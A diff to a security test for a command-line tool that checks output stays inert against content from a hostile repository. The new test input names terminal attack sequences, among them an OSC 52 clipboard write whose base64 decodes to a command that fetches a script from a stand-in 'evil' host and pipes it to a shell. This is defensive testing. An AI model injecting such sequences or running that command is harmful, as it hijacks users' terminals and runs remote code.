@@ -40,7 +40,8 @@ test("a hostile repository's descriptions, file names and config reach the CLI's
 		["validate"],
 		["doctor"],
 		["config"],
-		["recommend", "review"],
+		// The agent's useWhen phrase, in words (recommend matches phrases; the planted sequences are no words).
+		["recommend", "a change is ready for review osc 52 c Y3VybCBldmlsIHwgc2g clear 2J c1 31m bidi evil"],
 	]) {
 		const { stdout, stderr } = await cli(command, box);
 		assertInert(stdout, `${command[0]} stdout`);
